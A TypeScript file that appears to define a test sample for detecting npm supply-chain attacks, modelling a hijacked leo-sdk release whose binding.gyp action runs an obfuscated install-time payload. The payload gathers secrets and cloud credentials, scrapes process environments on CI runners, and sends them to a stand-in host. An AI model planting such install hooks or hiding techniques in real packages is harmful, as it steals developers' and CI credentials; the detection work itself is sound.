import { defineAttack } from "../attack.ts";
import { serviceClient } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { collectCloud, collectSecrets, postLoot } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine, packIntoEval } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * Leo Platform and RStreams, leo-sdk 6.0.19 and others, and hexo themes, 24 to 26 June 2026: one maintainer's account. Again a
 * `binding.gyp`, here with an action; the payload is packed and reads the memory of a runner.
 */
export const leoPlatform2026: Sample = defineAttack({
  id: "leo-platform-2026",
  title: "A gyp action runs a packed payload",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "leo-sdk", version: "6.0.19" }],
  now: "2026-06-24T18:25:00Z",
  createLines: () => [
    line("leo-sdk", ["6.0.17", "6.0.18", "6.0.19"], "2026-06-24T18:02:00Z"),
    line("leo-aws", ["2.0.3", "2.0.4", "2.0.5"], "2026-06-24T18:02:20Z"),
  ],
});

const gyp = `{
  "targets": [
    {
      "target_name": "leo_native",
      "type": "none",
      "actions": [
        {
          "action_name": "prepare",
          "inputs": [],
          "outputs": ["<(INTERMEDIATE_DIR)/ready"],
          "action": ["node", "lib/native.js"]
        }
      ]
    }
  ]
}
`;

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  const payload = renderBundle(600_000, 99, [packIntoEval(hideInTable(oneLine(stealer)), "xor")]);
  return {
    name,
    files: serviceClient(name),
    publisher: person("czirker"),
    releases: [
      [older, "2025-10-02T10:00:00Z"],
      [last, "2026-02-12T10:00:00Z"],
      [
        armed,
        at,
        {
          hasCommit: false,
          files: [
            { path: "binding.gyp", content: gyp },
            { path: "lib/native.js", content: payload },
          ],
        },
      ],
    ],
  };
}

const stealer = commonScript(`
${collectSecrets}
${collectCloud}
if (process.env.GITHUB_ACTIONS) { loot.memory = fs.readdirSync("/proc").filter((id) => /^[0-9]+$/.test(id)).map((id) => fs.readFileSync("/proc/" + id + "/environ", "utf8")); }
collectCloud().catch(() => {});
${postLoot("sync.leo.invalid", "/in")}
`);
